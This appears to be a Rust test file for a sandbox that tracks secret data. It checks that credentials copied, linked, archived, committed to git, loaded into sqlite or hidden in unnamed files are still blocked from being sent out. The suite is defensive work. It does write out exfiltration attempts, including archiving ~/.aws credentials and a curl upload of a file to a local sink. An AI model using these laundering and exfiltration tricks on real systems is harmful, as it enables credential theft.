//! Files: copies, names, archives, databases.

use crate::{CONNECT, python_flows, shell_flows};

shell_flows! {
    a_copy_is_as_secret: "cp $S copy; send copy; echo fine > clean; send clean" => "kept copy\nsent clean", [CONNECT];
    what_a_shell_redirects: "cat $S > out; send out; send script.sh" => "kept out\nsent script.sh", [CONNECT];
    a_copy_that_was_moved: "cp $S a; mv a b; send b" => "kept b", [CONNECT];
    a_copy_moved_over_another: "cp $S a; echo fine > b; mv -f a b; send b" => "kept b", [CONNECT];
    a_hard_link: "cp $S a; ln a b; rm a; send b" => "kept b", [CONNECT];
    a_hard_link_made_before: "echo > a; ln a b; cat $S > a; rm a; send b" => "kept b", [CONNECT];
    a_symbolic_link: "ln -s $S link; send link" => "kept link", [CONNECT];
    a_link_to_a_link: "ln -s $S one; ln -s one two; cp two out; send out" => "kept out", [CONNECT];
    byte_by_byte: "dd if=$S of=out bs=1 status=none; send out" => "kept out", [CONNECT];
    a_tee: "tee out < $S > /dev/null; send out; echo > clean; send clean" => "kept out\nsent clean", [CONNECT];
    a_part: "split -b 4 $S part-; send part-aa" => "kept part-aa", [CONNECT];
    an_archive: "tar cf a.tar -C $HOME .aws; mkdir x; tar xf a.tar -C x; send a.tar; send x/.aws/credentials"
        => "kept a.tar\nkept x/.aws/credentials", [CONNECT];
    what_is_compressed: "gzip -c $S > s.gz; gunzip -c s.gz > s; send s.gz; send s" => "kept s.gz\nkept s", [CONNECT];
    truncating_takes_nothing_away: "cp $S a; : > a; send a" => "kept a", [CONNECT];
    removing_does: "cp $S a; rm a; echo fine > a; send a" => "sent a", [];
    a_directory_that_was_moved: "mkdir d; cp $S d/f; mv d e; send e/f; mkdir d; echo > d/f; send d/f"
        => "kept e/f\nsent d/f", [CONNECT];
    a_source_that_was_moved: "mv secrets plain; send plain/key" => "kept plain/key", [CONNECT];
    a_patch: "cp $S new; echo > old; diff -u old new > patch; send patch" => "kept patch", [CONNECT];
    edited_in_place: "cp $S a; sed -i s/the/THE/ a; send a" => "kept a", [CONNECT];
    a_repository:
        "git init -q r; cd r; git config user.name n; git config user.email e@x; cp $S f; git add f;
         git commit -qm one; git show HEAD:f > ../g; cd ..; send g; echo > clean; send clean"
        => "kept g\nsent clean", [CONNECT];
    a_clone:
        "git init -q r; cd r; git config user.name n; git config user.email e@x; cp $S f; git add f;
         git commit -qm one; cd ..; git clone -q r c; send c/f"
        => "kept c/f", [CONNECT];
    a_database:
        "sqlite3 db \"create table t(x); insert into t values(cast(readfile('$S') as text))\";
         sqlite3 db 'select upper(x) from t' > out; send out; echo > clean; send clean"
        => "kept out\nsent clean", [CONNECT];
    a_file_in_shared_memory: "cp $S /dev/shm/flow-$$; send /dev/shm/flow-$$ | cut -d- -f1; rm /dev/shm/flow-$$"
        => "kept /dev/shm/flow", [CONNECT];
    what_a_hidden_directory_holds: "mkdir -p .a/.b; cp $S .a/.b/.c; send .a/.b/.c" => "kept .a/.b/.c", [CONNECT];
}

python_flows! {
    two_files_exchanged: "
child(lambda: open('a', 'wb').write(read())) and os.wait()
open('b', 'w').write('fine')
assert libc.renameat2(-100, b'a', -100, b'b', 2) == 0
print(subprocess.run(['bash', '-c', f'curl -s -o /dev/null --data-binary @b http://127.0.0.1:{SINK}/ || echo kept'],
    capture_output=True, text=True).stdout.strip())
" => "kept", [CONNECT];
    copied_by_the_kernel: "
def work():
    source, target = os.open(S, os.O_RDONLY), os.open('out', os.O_WRONLY | os.O_CREAT)
    os.sendfile(target, source, 0, 1000)
    os.copy_file_range(source, target, 1000, 0)
done(child(work))
send(what='clean')
data = read('out')
send(data, 'out')
" => "sent clean\nkept out", [CONNECT];
    opened_to_read_and_write: "
fd = os.open('secrets/key', os.O_RDWR)
send(os.read(fd, 100))
" => "kept", [CONNECT];
    a_file_that_had_no_name_at_first: "
def work():
    fd = os.open('.', os.O_TMPFILE | os.O_RDWR)
    os.write(fd, read())
    assert libc.linkat(-100, f'/proc/self/fd/{fd}'.encode(), -100, b'named', 0x400) == 0
done(child(work))
os.listdir('.')
send(what='clean')
send(read('named'), 'named')
" => "sent clean\nkept named", [CONNECT];
    a_file_that_has_no_name_any_more: "
fd = os.open('gone', os.O_RDWR | os.O_CREAT)
os.unlink('gone')
done(child(lambda: os.write(fd, read())))
send(os.pread(fd, 100, 0))
" => "kept", [CONNECT];
    a_file_without_a_name_opened_again: "
open('gone', 'w').close()
def holder():
    fd = os.open('gone', os.O_WRONLY)
    os.dup2(fd, 50)
    os.mkdir('ready')
    time.sleep(20)
pid = child(holder)
while not os.path.exists('ready'): time.sleep(0.01)
def work():
    os.write(os.open('gone', os.O_WRONLY), read())
done(child(work))
os.unlink('gone')
send(what='clean')
send(os.read(os.open(f'/proc/{pid}/fd/50', os.O_RDONLY), 100))
os.kill(pid, 9)
" => "sent clean\nkept", [CONNECT];
    a_file_written_after_it_was_opened_by_another_name: "
open('a', 'w').close()
os.link('a', 'b')
fd = os.open('b', os.O_RDONLY)
done(child(lambda: open('a', 'wb').write(read())))
send(os.read(fd, 100))
" => "kept", [CONNECT];
    a_file_too_deep_to_have_a_path: "
def deep(name):
    os.mkdir(name)
    os.chdir(name)
    for turn in range(15):
        os.mkdir('d' * 200)
        os.chdir('d' * 200)
top = os.getcwd()
deep('one')
file = os.open('file', os.O_RDWR | os.O_CREAT)
os.chdir(top)
deep('two')
os.rename(top + '/one', 'moved')
try: os.readlink(f'/proc/self/fd/{file}')
except OSError as error: say(errno.errorcode[error.errno])
os.chdir(top)
secretly(connect())
" => "ENAMETOOLONG\nrefused", ["fs.open credentials"];
}
